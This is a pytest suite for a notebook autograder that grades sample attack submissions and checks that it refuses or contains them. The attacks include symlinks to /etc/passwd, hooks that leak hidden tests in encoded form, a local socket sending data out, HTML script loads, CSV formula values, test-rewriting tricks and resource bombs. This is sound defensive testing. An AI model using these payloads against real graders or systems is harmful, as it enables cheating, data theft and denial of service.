"""Attacks from the grader security review (issue 11), each built here in a temporary course.

Every test grades a small toy course (one function, a public and a hidden test, a written answer)
with one or two attack submissions beside an honest one, and checks what reaches the feedback,
the gradebook and grades.csv. No attack submission is kept in the repository.
"""

from __future__ import annotations

import errno
import html
import os
import re
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from newstrace.grading import demo
from newstrace.grading.gradesheet import read_grades
from newstrace.grading.pipeline import GradeOptions, grade_course
from newstrace.grading.precheck import precheck_submission

ASSIGNMENT = "doubling"
TIMEOUT = 10


@pytest.fixture(scope="module")
def toy_release(tmp_path_factory):
    """Return (release, source) of the toy assignment, generated once."""
    root = tmp_path_factory.mktemp("toy-release")
    demo.build_course(root, {ASSIGNMENT: demo.toy_source()})
    return demo.release_of(root, ASSIGNMENT), demo.toy_source()


def new_course(root: Path) -> Path:
    """Write the toy course into `root` and return it."""
    demo.build_course(root, {ASSIGNMENT: demo.toy_source()})
    return root


def submit(root: Path, student: str, nb: nbformat.NotebookNode | str) -> Path:
    """Write a student's notebook (a notebook or raw text); return the submission folder."""
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    text = nb if isinstance(nb, str) else nbformat.writes(nb)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(text, encoding="utf-8")
    return folder


def perfect(toy_release) -> nbformat.NotebookNode:
    """Return the perfect submission."""
    release, source = toy_release
    return demo.perfect(release, source)


def with_cell(nb: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """Return `nb` with a code cell added after its first answer cell."""
    return demo.insert_after_first_answer(nb, code)


def grade(root: Path, **options) -> dict[str, object]:
    """Grade the course quietly; return rows by student."""
    rows = grade_course(root, GradeOptions(timeout=TIMEOUT, **options), log=lambda _: None)
    return {row.student: row for row in rows}


def files_under(folder: Path) -> dict[str, bytes]:
    """Return every regular file under a folder with its bytes."""
    if not folder.is_dir():
        return {}
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def feedback_page(root: Path, student: str) -> str:
    """Return the feedback page of a student."""
    return (root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text(encoding="utf-8")


# --- 1: links beside the notebook ---------------------------------------------------------------


def test_links_beside_the_notebook_are_refused_and_never_copied(toy_release, tmp_path):
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    folder = submit(root, "linker", with_cell(perfect(toy_release), "print(open('gb.txt', 'rb').read()[:16])"))
    (root / "gradebook.db").write_bytes(b"SQLite format 3\x00 the course gradebook")
    os.symlink(root / "gradebook.db", folder / "gb.txt")
    os.symlink(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", folder / "sol.txt")
    os.symlink("/etc/passwd", folder / "passwd.txt")
    os.symlink("/etc", folder / "etc-folder")
    (root / "gradebook.db").unlink()  # grading makes the real gradebook; the link now points at it
    rows = grade(root, jobs=1)
    assert rows["honest"].status == "ok" and rows["honest"].score == rows["honest"].max_score
    assert rows["linker"].status == "unreadable", rows["linker"]
    assert "symbolic link" in rows["linker"].message
    for area in ("autograded", "feedback"):
        copied = files_under(root / area / "linker")
        assert not any(name.endswith(("gb.txt", "sol.txt", "passwd.txt")) for name in copied), copied
        assert not any(b"SQLite format" in data or b"root:x:0:0" in data for data in copied.values())


def test_precheck_refuses_special_files_and_outside_hard_links(toy_release, tmp_path):
    release = toy_release[0]
    cases = {
        "fifo": lambda folder: os.mkfifo(folder / "pipe"),
        "hardlink": lambda folder: os.link(tmp_path / "outside.txt", folder / "inside.txt"),
        "notebook-link": lambda folder: (
            (folder / f"{ASSIGNMENT}.ipynb").unlink(),
            os.symlink("/proc/self/mem", folder / f"{ASSIGNMENT}.ipynb"),
        ),
    }
    (tmp_path / "outside.txt").write_text("a file the student does not own", encoding="utf-8")
    for kind, make in cases.items():
        folder = tmp_path / kind
        folder.mkdir()
        (folder / f"{ASSIGNMENT}.ipynb").write_text(nbformat.writes(release), encoding="utf-8")
        make(folder)
        verdict = precheck_submission(folder, {ASSIGNMENT: release})
        assert verdict.status == "unreadable", (kind, verdict)
    ok = tmp_path / "ok"
    ok.mkdir()
    (ok / f"{ASSIGNMENT}.ipynb").write_text(nbformat.writes(release), encoding="utf-8")
    (ok / "data.csv").write_text("a,b\n", encoding="utf-8")
    verdict = precheck_submission(ok, {ASSIGNMENT: release})
    assert verdict.status == "ok" and verdict.files == ("data.csv", f"{ASSIGNMENT}.ipynb")


# --- 5: one submission must not stop the class ----------------------------------------------------


def test_a_deeply_nested_or_linked_notebook_costs_only_its_own_row(toy_release, tmp_path):
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    submit(root, "nested", "[" * 100_000)
    linked = root / "submitted" / "memlink" / ASSIGNMENT
    linked.mkdir(parents=True)
    os.symlink("/proc/self/mem", linked / f"{ASSIGNMENT}.ipynb")
    rows = grade(root, jobs=1)
    assert rows["honest"].status == "ok" and rows["honest"].score == rows["honest"].max_score
    assert rows["nested"].status == "unreadable" and "RecursionError" in rows["nested"].message
    assert rows["memlink"].status == "unreadable" and "symbolic link" in rows["memlink"].message
    assert {r.student for r in read_grades(root / "grades.csv")} == {"honest", "nested", "memlink"}


# --- 2, 3, 10, 11: what student code can put into feedback ----------------------------------------

ENCODER = """import base64, zlib
get_ipython().events.register(
    "pre_run_cell", lambda info: print(base64.b64encode(zlib.compress(info.raw_cell.encode())).decode()))
"""
EXCEPTIONAL = '''class Sly(float):
    def __eq__(self, other):
        raise ValueError(f"EXPECTED={other!r}")
    __hash__ = float.__hash__

def double(x):
    return Sly(2 * x)
'''
WRONG = "def double(x):\n    return 2 * x if x < 10 else 0\n"
FLOOD = """from IPython.display import display
display({'application/json': {'k': 'j' * 3_000_000}}, raw=True)
raise ValueError('E' * 3_000_000)
"""
HTML_PAGE = """from IPython.display import HTML, display
display(HTML('<img src="http://127.0.0.1:{port}/img.png"><script>fetch("http://127.0.0.1:{port}/f")</script>'
             '<iframe src="http://127.0.0.1:{port}/frame"></iframe>'
             '<img alt="inline" src="data:image/png;base64,iVBORw0KGgo=">'))
"""


@pytest.fixture(scope="module")
def leaky_class(toy_release, tmp_path_factory):
    """Grade a class of submissions that try to write secrets or loads into their feedback."""
    import socket

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    root = new_course(tmp_path_factory.mktemp("leaky") / "course")
    good = perfect(toy_release)
    submit(root, "honest", good)
    submit(root, "wrong", with_cell(good, WRONG))
    submit(root, "encoder", with_cell(good, ENCODER))
    submit(root, "exceptional", with_cell(good, EXCEPTIONAL))
    submit(root, "flood", with_cell(good, FLOOD))
    submit(root, "htmlpage", with_cell(good, HTML_PAGE.replace("{port}", str(port))))
    rows = grade(root, jobs=2)
    yield {"root": root, "rows": rows, "listener": listener}
    listener.close()


def hidden_lines() -> list[str]:
    """Return the hidden-test lines of the toy assignment."""
    source = demo.toy_source().cells[3].source
    inside = source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
    return [line.strip() for line in inside.splitlines() if line.strip()]


def decoded_blobs(page: str) -> str:
    """Return every base64 blob of a page decoded (and inflated when it is zlib data)."""
    import base64
    import zlib

    texts = []
    for blob in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", page):
        try:
            raw = base64.b64decode(blob + "=" * (-len(blob) % 4))
        except ValueError:
            continue
        try:
            raw = zlib.decompress(raw)
        except zlib.error:
            pass
        texts.append(raw.decode("utf-8", "replace"))
    return "\n".join(texts)


def test_a_hook_cannot_read_hidden_tests_back_in_encoded_form(leaky_class):
    root = leaky_class["root"]
    autograded = (root / "autograded" / "encoder" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "isinstance(double(2), int)" in decoded_blobs(autograded)  # the hook really ran
    page = feedback_page(root, "encoder")
    decoded = decoded_blobs(page)
    for line in hidden_lines():
        assert line not in decoded and line not in page, line
    assert leaky_class["rows"]["encoder"].status == "review"  # it registers an event hook


def test_an_exception_message_cannot_carry_expected_answers(leaky_class):
    page = feedback_page(leaky_class["root"], "exceptional")
    assert "EXPECTED=42" not in html.unescape(re.sub(r"<[^>]+>", "", page))
    assert "Hidden tests failed: ValueError: a hidden test failed." in page


def test_a_failed_hidden_assert_shows_the_instructors_message(leaky_class):
    page = feedback_page(leaky_class["root"], "wrong")
    assert "Hidden tests failed: AssertionError: double(21) should be 42." in page
    honest = feedback_page(leaky_class["root"], "honest")
    assert "Hidden tests passed." in honest


def test_errors_and_rich_outputs_are_capped(leaky_class):
    root = leaky_class["root"]
    notebook = root / "autograded" / "flood" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert notebook.stat().st_size < 500_000, notebook.stat().st_size
    page = root / "feedback" / "flood" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert page.stat().st_size < 1_000_000, page.stat().st_size
    assert "output truncated" in page.read_text(encoding="utf-8")
    assert leaky_class["rows"]["flood"].score == leaky_class["rows"]["flood"].max_score


def test_feedback_pages_forbid_every_load_and_keep_no_active_html(leaky_class):
    page = leaky_class["root"] / "feedback" / "htmlpage" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    text = page.read_text(encoding="utf-8")
    head = text.split("<body")[0]
    assert "Content-Security-Policy" in head and "default-src 'none'" in head
    assert "img-src data:;" in head and "script-src 'none'" in head
    assert '<img src="http' not in text and "<script>fetch" not in text and "<iframe" not in text
    assert '<img alt="inline" src="data:image/png;base64,iVBORw0KGgo="' in text  # inline images stay


# --- 6: a killed worker loses nothing -----------------------------------------------------------

from newstrace.grading import autograde  # noqa: E402

REAL_AUTOGRADE_TASK = autograde.autograde_task
KILL_MARKERS: dict[str, Path] = {}


def killed_once(config, task, timeout, max_chars):
    """Autograde, but the first time the victim is graded its worker dies as if OOM-killed."""
    marker = KILL_MARKERS["once"]
    if task.student == "victim" and not marker.exists():
        marker.touch()
        os.kill(os.getpid(), 9)
    return REAL_AUTOGRADE_TASK(config, task, timeout, max_chars)


def killed_always(config, task, timeout, max_chars):
    """Autograde, but every worker that grades the victim dies."""
    if task.student == "victim":
        os.kill(os.getpid(), 9)
    return REAL_AUTOGRADE_TASK(config, task, timeout, max_chars)


def manual_grades(root: Path) -> dict[tuple[str, str], tuple]:
    """Return {(student, cell): (manual score, manual comment)} of the gradebook."""
    found = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for submission in gb.find_assignment(ASSIGNMENT).submissions:
            for notebook in submission.notebooks:
                for grade in notebook.grades:
                    found[(submission.student.id, grade.name)] = grade.manual_score
                for comment in notebook.comments:
                    found[(submission.student.id, "comment:" + comment.name)] = comment.manual_comment
    return found


def test_a_killed_worker_is_retried_and_manual_grades_survive(toy_release, tmp_path, monkeypatch):
    root = new_course(tmp_path / "course")
    for student in ("ada", "victim", "cy", "dee"):
        submit(root, student, perfect(toy_release))
    first = grade(root, jobs=2)
    assert all(row.status == "ok" for row in first.values())
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student in ("victim", "cy"):
            notebook = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
            grade_ = next(g for g in notebook.grades if g.name == "linear_answer")
            grade_.manual_score, grade_.needs_manual_grade = 1.5, False
            comment = next(c for c in notebook.comments if c.name == "linear_answer")
            comment.manual_comment = f"well argued, {student}"
        gb.db.commit()
    manual = manual_grades(root)

    import multiprocessing

    # forked workers inherit the patched autograde_task (a fork server would re-import it)
    monkeypatch.setattr(autograde, "worker_context", lambda: multiprocessing.get_context("fork"))
    KILL_MARKERS["once"] = tmp_path / "killed-once"
    monkeypatch.setattr(autograde, "autograde_task", killed_once)
    second = grade(root, jobs=2)
    assert (tmp_path / "killed-once").exists()  # the victim's worker really was killed
    assert all(row.status == "ok" for row in second.values()), second
    assert {s: r.score for s, r in second.items()} == {s: r.score for s, r in first.items()}
    assert manual_grades(root) == manual
    page = feedback_page(root, "victim")
    assert "well argued, victim" in page

    monkeypatch.setattr(autograde, "autograde_task", killed_always)
    third = grade(root, jobs=2)
    assert third["victim"].status == "error" and "earlier results kept" in third["victim"].message
    assert third["victim"].score == second["victim"].score
    assert all(third[s].status == "ok" for s in ("ada", "cy", "dee"))
    assert manual_grades(root) == manual
    assert manual[("victim", "linear_answer")] == 1.5
    assert feedback_page(root, "victim") == page


# --- 4: points without work -------------------------------------------------------------------------

TRANSFORMER = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"


def test_a_submission_that_rewrites_the_tests_is_held_for_review(toy_release, tmp_path):
    release, _ = toy_release
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    submit(root, "transformer", with_cell(release, TRANSFORMER))
    rows = grade(root, jobs=1)
    row = rows["transformer"]
    assert row.status == "review" and row.score == 0, row
    assert "input_transformers_post" in row.message and "autograder gave 3/3" in row.message
    assert "held for review" in feedback_page(root, "transformer")
    assert rows["honest"].status == "ok" and rows["honest"].score == rows["honest"].max_score
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        notebook = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "transformer")
        assert all(g.needs_manual_grade for g in notebook.grades if g.cell.cell_type == "code")


HIDDEN_HOOK = (
    "look = getattr\n"
    "hooks = look(get_ipython(), ''.join(['ev', 'ents']))\n"
    "look(hooks, ''.join(map(chr, [114, 101, 103, 105, 115, 116, 101, 114])))"
    "('pre_run_cell', lambda *args: None)\n"
)


def test_a_hook_the_source_scan_misses_is_found_in_the_kernel_before_the_tests(toy_release, tmp_path):
    from newstrace.grading.precheck import tampering_in

    assert tampering_in(HIDDEN_HOOK) == []  # so only the kernel-state check can catch it
    release, _ = toy_release
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    submit(root, "hidden", with_cell(perfect(toy_release), HIDDEN_HOOK))
    rows = grade(root, jobs=1)
    row = rows["hidden"]
    assert row.status == "review" and row.score == 0, row
    assert "events.pre_run_cell" in row.message and "kernel state changed" in row.message
    page = feedback_page(root, "hidden")
    assert "held for review" in page and "builtins" not in page and "user_expressions" not in page
    assert rows["honest"].status == "ok" and rows["honest"].score == rows["honest"].max_score


@pytest.mark.parametrize(
    "code",
    [
        "%matplotlib inline\nimport pandas as pd\nprint(pd.DataFrame({'a': [1]}).shape)",
        "def double(x):\n    '''Return twice x.'''\n    return x * 2",
        "events = ['a', 'b']\nprint(len(events))",
    ],
)
def test_ordinary_student_code_is_not_held(code):
    from newstrace.grading.precheck import tampering_in

    assert tampering_in(code) == []


# --- grades.csv opened in a spreadsheet ---------------------------------------------------------------


def test_grades_csv_never_starts_a_formula(tmp_path):
    import csv

    from newstrace.grading.gradesheet import GradeRow, write_grades

    rows = [GradeRow(name, "a", 1.0, 2.0, 0.0, "ok", msg) for name, msg in
            [("=1+2", "+cmd"), ("@SUM(A1)", "-2+3"), ("ada", "fine")]]
    write_grades(tmp_path / "grades.csv", rows)
    records = list(csv.reader((tmp_path / "grades.csv").open(encoding="utf-8", newline="")))[1:]
    cells = [cell for record in records for cell in record]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert ["'=1+2", "a", "1", "2", "0", "ok", "'+cmd"] in records
    assert ["ada", "a", "1", "2", "0", "ok", "fine"] in records
    write_grades(tmp_path / "grades.csv", rows[:1])  # a re-run replaces the row, never doubles it
    assert sorted(r.student for r in read_grades(tmp_path / "grades.csv")) == ["=1+2", "@SUM(A1)", "ada"]


# --- 7, 8, 9: limits that limit ---------------------------------------------------------------------

from grading_kernels import run_in_grading_kernel  # noqa: E402

from newstrace.grading.sandbox import Limits, SandboxedKernelManager, detect_confinement  # noqa: E402

CHILDREN = """import subprocess, sys
code = ('open("/proc/self/oom_score_adj", "w").write("1000"); '  # the out-of-memory killer's first pick
        'import time; b = b"x" * (300 * 2**20); time.sleep(2); print("alive")')
procs = [subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.PIPE) for _ in range(4)]
print('alive:', sum(p.communicate()[0].count(b'alive') for p in procs))
"""


def filler(folder: str, files: int, mb: int) -> str:
    """Return attack code writing `files` files of `mb` MB into `folder`, printing what it wrote."""
    return f"""import os
written = 0
try:
    for i in range({files}):
        with open(os.path.join({folder!r}, f'fill{{i}}.bin'), 'wb') as handle:
            handle.write(b'x' * ({mb} * 2**20))
        written += {mb}
except OSError as err:
    print('refused', err.errno)
print('written', written)
"""


NETWORK = """import socket
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'hidden tests')
    print('sent')
except OSError as err:
    print(type(err).__name__)
"""


def confined_kind() -> str:
    """Return this machine's confinement, skipping when kernels cannot be confined."""
    confinement = detect_confinement()
    if not confinement.confined:
        pytest.skip("bubblewrap is unavailable here: student kernels cannot be confined")
    return confinement.kind


def printed(nb: nbformat.NotebookNode) -> str:
    """Return what the first cell printed."""
    return "".join(o.get("text", "") for o in nb.cells[0].outputs)


def test_memory_is_capped_for_the_kernels_whole_process_tree(tmp_path, monkeypatch):
    from newstrace.grading.memory_limits import memory_cgroup_root

    kind = confined_kind()
    if memory_cgroup_root() is None:
        pytest.skip("no writable memory cgroup here: the cap is per process (documented fallback)")
    # the case: four children of about 300 MB each, each within a per-process cap of 1 GB
    alive = {}
    for cap_mb in (3072, 1024):  # the first run is the control: with room, all four live
        monkeypatch.setattr(SandboxedKernelManager, "limits", Limits(memory_bytes=cap_mb * 2**20))
        nb, _ = run_in_grading_kernel(["print('kernel up')", CHILDREN], kind, tmp_path, monkeypatch)
        assert printed(nb).strip() == "kernel up"  # the kernel itself started and survived
        said = "".join(o.get("text", "") for o in nb.cells[1].outputs)
        alive[cap_mb] = int(re.search(r"alive: (\d)", said).group(1))
    assert alive[3072] == 4 and alive[1024] < 4, alive  # 4 x 300 MB and the kernel exceed 1 GB


def test_the_sandbox_tmp_is_size_capped(tmp_path, monkeypatch):
    kind = confined_kind()
    monkeypatch.setattr(SandboxedKernelManager, "limits", Limits(tmp_bytes=128 * 2**20))
    nb, _ = run_in_grading_kernel([filler("/tmp", 6, 50)], kind, tmp_path, monkeypatch)
    text = printed(nb)
    assert f"refused {errno.ENOSPC}" in text and int(text.split("written")[1]) <= 128, text


def test_student_code_cannot_write_past_its_working_folder_budget(toy_release, tmp_path):
    confined_kind()
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    submit(root, "filler", with_cell(perfect(toy_release), filler(".", 8, 8)))
    rows = grade(root, jobs=2, limits=Limits(work_bytes=32 * 2**20))  # 64 MB of writes into 32
    row = rows["filler"]
    assert row.status == "review" and row.score == 0, row
    assert "filled its disk budget: working folder (32 MB)" in row.message
    assert "autograder gave 3/3" in row.message  # graded in full, its points held for a person
    assert rows["honest"].status == "ok" and rows["honest"].score == rows["honest"].max_score
    evidence = nbformat.read(root / "autograded" / "filler" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    said = next(
        "".join(o.get("text", "") for o in cell.outputs)
        for cell in evidence.cells
        if cell.cell_type == "code" and "fill{i}.bin" in cell.source
    )
    assert f"refused {errno.ENOSPC}" in said and int(said.split("written ")[1].split()[0]) <= 32, said
    assert "held for review" in feedback_page(root, "filler")
    assert not list(tmp_path.rglob("fill*.bin"))  # nothing reached the disk under the course
    assert {r.student for r in read_grades(root / "grades.csv")} == {"honest", "filler"}


SOCKET_SWAP = """import os
try:
    os.rename('/run/kernel/ipc-1', '/run/kernel/moved')
    os.symlink('/run/some-host-socket', '/run/kernel/ipc-1')
    print('swapped')
except OSError as err:
    print('refused', type(err).__name__)
"""


def test_a_kernel_run_as_nobody_cannot_replace_its_sockets(toy_release, tmp_path):
    if confined_kind() != "bwrap+nobody":
        pytest.skip("only a grader run as root can take the socket folder back from the kernel")
    root = new_course(tmp_path / "course")
    submit(root, "swapper", with_cell(perfect(toy_release), SOCKET_SWAP))
    assert grade(root, jobs=1)["swapper"].status == "ok"
    evidence = nbformat.read(root / "autograded" / "swapper" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    said = "".join(o.get("text", "") for c in evidence.cells if "rename" in c.source for o in c.outputs)
    assert said.strip() == "refused PermissionError", said


def test_no_network_under_a_long_tmpdir(tmp_path, monkeypatch):
    import socket

    kind = confined_kind()
    deep = tmp_path / ("a-long-temporary-folder-name-" * 3)
    deep.mkdir()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    with listener:
        code = NETWORK.replace("{port}", str(listener.getsockname()[1]))
        nb, _ = run_in_grading_kernel([code, "print(6 * 7)"], kind, deep, monkeypatch)
        assert printed(nb).strip() != "sent"
        assert "42" in "".join(o.get("text", "") for o in nb.cells[1].outputs)
        with pytest.raises(BlockingIOError):
            listener.accept()


# --- honest outcomes ------------------------------------------------------------------------------

STUBBORN = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"


def test_a_loop_that_ignores_interrupts_is_killed_and_reported_as_timeout(toy_release, tmp_path):
    root = new_course(tmp_path / "course")
    submit(root, "stubborn", with_cell(perfect(toy_release), STUBBORN))
    rows = grade_course(root, GradeOptions(timeout=3, jobs=1), log=lambda _: None)
    assert rows[0].status == "timeout", rows[0]
    assert "time limit" in rows[0].message


def test_a_memory_cap_too_low_to_start_a_kernel_is_refused_up_front(toy_release, tmp_path, capsys):
    from newstrace.cli import main
    from newstrace.grading.memory_limits import minimum_memory_mb

    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    kind = confined_kind()
    assert main(["grade", "--course", str(root), "--memory-mb", "20"]) == 1
    error = capsys.readouterr().err
    assert f"needs at least {minimum_memory_mb(kind)} MB" in error
    assert not (root / "grades.csv").exists()


def test_the_per_process_minimum_grades_a_perfect_notebook_in_full(toy_release, tmp_path, monkeypatch):
    from newstrace.grading import memory_limits
    from newstrace.grading.memory_limits import minimum_process_memory_mb

    confined_kind()
    monkeypatch.setattr(memory_limits, "memory_cgroup_root", lambda: None)  # the fallback: prlimit --as
    root = new_course(tmp_path / "course")
    submit(root, "honest", perfect(toy_release))
    minimum = minimum_process_memory_mb()
    row = grade(root, jobs=1, limits=Limits(memory_bytes=minimum * 2**20))["honest"]
    assert row.status == "ok" and row.score == row.max_score, (minimum, row)
    with pytest.raises(ValueError, match=f"needs at least {minimum} MB here .memory is capped per process"):
        grade(root, jobs=1, limits=Limits(memory_bytes=(minimum - 1) * 2**20))


def test_an_honestly_copied_answer_cell_costs_nothing(toy_release, tmp_path):
    import copy

    root = new_course(tmp_path / "course")
    nb = perfect(toy_release)
    answer = next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
    pasted = copy.deepcopy(answer)  # Jupyter keeps the metadata of a copied cell
    pasted.source = "# trying something\n" + pasted.source
    nb.cells.insert(nb.cells.index(answer) + 1, pasted)
    submit(root, "paster", nb)
    row = grade(root, jobs=1)["paster"]
    assert row.status == "ok" and row.score == row.max_score, row
    assert "graded as ordinary cells; the first one counts" in row.message
    assert "double_code" in row.message



THREAD_BOMB = """import threading, time
hold = threading.Event()
started = 0
try:
    while started < 10000:
        threading.Thread(target=hold.wait, daemon=True).start()
        started += 1
except RuntimeError:
    pass
print('started', started)
time.sleep(12)
hold.set()
"""
HONEST_THREADS = """import threading
threads = [threading.Thread(target=lambda: None) for _ in range(20)]
for thread in threads:
    thread.start()
print('ok', len(threads))
"""


def test_one_kernels_fork_bomb_leaves_the_other_kernels_room(tmp_path, monkeypatch):
    """Tasks are capped per kernel (pids cgroup), not per user: every kernel runs as nobody, so a shared
    per-user limit let one student's bomb stop a neighbour's kernel from starting threads."""
    import threading
    import time

    from newstrace.grading import memory_limits

    if confined_kind() != "bwrap+nobody":
        pytest.skip("kernels run as nobody only when the grader is root")
    probe = memory_limits.make_memory_cgroup(2**30)
    capped = memory_limits.cap_tasks(probe, 64)
    for folder in dict.fromkeys((capped, probe)):
        memory_limits.remove_cgroup(folder)
    if capped is None:
        pytest.skip("no writable pids cgroup here")
    monkeypatch.setattr(SandboxedKernelManager, "limits", Limits(processes=64))
    bomb: dict[str, str] = {}
    worker = threading.Thread(target=lambda: bomb.update(
        text=printed(run_in_grading_kernel([THREAD_BOMB], "bwrap+nobody", tmp_path, monkeypatch)[0])))
    worker.start()
    time.sleep(6)  # the bomb's kernel is up and holds every task its cap allows
    honest, _ = run_in_grading_kernel([HONEST_THREADS], "bwrap+nobody", tmp_path, monkeypatch)
    worker.join()
    assert printed(honest) == "ok 20\n"
    assert 0 < int(bomb["text"].split()[1]) < 64, bomb  # the bomb stopped at its own kernel's cap
